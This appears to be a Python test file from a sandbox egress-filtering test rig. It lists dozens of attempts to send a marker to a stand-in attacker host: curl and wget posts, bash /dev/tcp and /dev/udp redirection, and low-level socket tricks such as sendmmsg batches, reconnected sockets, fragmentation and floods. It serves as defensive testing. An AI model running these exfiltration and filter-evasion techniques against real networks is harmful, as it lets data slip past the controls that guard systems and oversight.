"""Class 1: a destination that nobody allowed, by every ordinary way of reaching one."""

from rig.attacks import ATTACKER, Attack, AttackCase, attacks
from rig.cases import expand
from rig.internet import RESOLVER, WWW

ATTACKS = [
    Attack("curl https to an address", f"curl -sSk -m 4 -d $MARKER https://{ATTACKER}/", shell=True),
    Attack("curl http to an address", f"curl -sS -m 4 -d $MARKER http://{ATTACKER}/", shell=True),
    Attack("curl to port 8080", f"curl -sS -m 4 http://{ATTACKER}:8080/$MARKER", shell=True),
    Attack("curl by name", "curl -sSk -m 4 https://www.evil.example/$MARKER", shell=True,
           forms=lambda marker: [marker.encode()]),
    Attack("wget post", f"wget -q -t 1 -T 4 -O- --post-data=$MARKER http://{ATTACKER}/", shell=True),
    Attack("redirected by an allowed host",
           "curl -sSL -m 4 http://www.allowed.example/away/$MARKER", shell=True),
    Attack("shell redirection", f"bash -c 'echo $MARKER >/dev/tcp/{ATTACKER}/4444'", shell=True),
    Attack("shell redirection by datagram", f"bash -c 'echo $MARKER >/dev/udp/{ATTACKER}/4444'",
           shell=True, logged=False),
    *[Attack(f"connection to port {port}", f"tcp({port})") for port in (22, 25, 53, 80, 443, 4444)],
    *[Attack(f"datagram to port {port}", f"udp({port})", logged=False) for port in (123, 443, 4444)],
    Attack("datagram to port 53 that is no query", "udp(53)"),
    Attack("connected datagram socket", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((ATTACKER, 4444)); s.send(mark)
s.recv(10)""", logged=False),
    Attack("sendmsg", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.sendmsg([mark], [], 0, (ATTACKER, 4444))
s.recv(10)""", logged=False),
    Attack("sendmmsg: the allowed one first", f"""
class iovec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_char_p), ("len", ctypes.c_size_t)]
class msghdr(ctypes.Structure):
    _fields_ = [("name", ctypes.c_char_p), ("namelen", ctypes.c_uint),
                ("iov", ctypes.POINTER(iovec)), ("iovlen", ctypes.c_size_t),
                ("control", ctypes.c_void_p), ("controllen", ctypes.c_size_t), ("flags", ctypes.c_int)]
class mmsghdr(ctypes.Structure):
    _fields_ = [("hdr", msghdr), ("len", ctypes.c_uint)]
def to(host, port, data):
    address = struct.pack("=HHI8x", 2, socket.htons(port), struct.unpack("=I", socket.inet_aton(host))[0])
    return mmsghdr(msghdr(address, 16, ctypes.pointer(iovec(data, len(data))), 1, None, 0, 0), 0)
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
batch = (mmsghdr * 3)(to("{RESOLVER}", 53, query("www.allowed.example")), to(ATTACKER, 53, mark),
                      to(ATTACKER, 4444, mark))
ctypes.CDLL(None).sendmmsg(s.fileno(), batch, 3, 0); s.recv(500)""", logged=False),
    Attack("sendto on a socket connected elsewhere", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{RESOLVER}", 53))
s.send(query("www.allowed.example")); s.recv(500)
s.sendto(mark, (ATTACKER, 4444)); time.sleep(0.05)""", logged=False),
    Attack("datagram socket connected anew", f"""
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect(("{RESOLVER}", 53))
s.send(query("www.allowed.example")); s.recv(500)
s.connect((ATTACKER, 4444)); s.send(mark); s.recv(10)""", logged=False),
    Attack("stream socket connected anew", f"""
s = socket.create_connection(("{WWW}", 7000)); s.sendall(b"x"); s.recv(1)
ctypes.CDLL(None).connect(s.fileno(), struct.pack("=H14x", 0), 16)  # AF_UNSPEC: dissolves it
s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    Attack("large datagram in fragments", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.setsockopt(socket.IPPROTO_IP, 10, 0)  # IP_MTU_DISCOVER: fragments allowed
s.sendto(mark + b"x" * 8000, (ATTACKER, 4444)); s.recv(10)""", logged=False),
    Attack("segmented datagrams", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
s.sendmsg([mark * 8], [(17, 103, struct.pack("H", len(mark) * 2))], 0, (ATTACKER, 4444))  # UDP_SEGMENT
s.recv(100)""", logged=False),
    Attack("corked datagram", """
s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM); s.connect((ATTACKER, 4444))
s.send(mark[:5], socket.MSG_MORE); s.send(mark[5:]); s.recv(10)""", logged=False),
    Attack("sendfile", """
path = os.environ["FRESH"] + "/file"; open(path, "wb").write(mark)
s = socket.create_connection((ATTACKER, 4444)); os.sendfile(s.fileno(), os.open(path, 0), 0, 100)
s.recv(10)"""),
    Attack("connect without waiting, then write", """
s = socket.socket(); s.setblocking(False); s.connect_ex((ATTACKER, 4444))
select.select([], [s], [], 3); s.send(mark); select.select([s], [], [], 3); s.recv(10)"""),
    Attack("urgent data", """
s = socket.create_connection((ATTACKER, 4444)); s.send(mark, socket.MSG_OOB); s.recv(10)"""),
    Attack("bound to a low-looking source port", """
s = socket.socket(); s.bind(("", 10053)); s.connect((ATTACKER, 4444)); s.sendall(mark); s.recv(10)"""),
    Attack("from many threads at once", """
import threading
threads = [threading.Thread(target=lambda: tcp(443)) for _ in range(20)]
[t.start() for t in threads]; [t.join() for t in threads]"""),
    Attack("a flood, in the hope that one gets through", """
for _ in range(400):
    s = socket.socket(); s.setblocking(False); s.connect_ex((ATTACKER, 4444))
    try: s.send(mark)
    except OSError: pass
tcp(4444)"""),
]


@expand
class Destinations(AttackCase):
    @attacks(ATTACKS)
    def attack(self, attack):
        self.carry_out(attack)
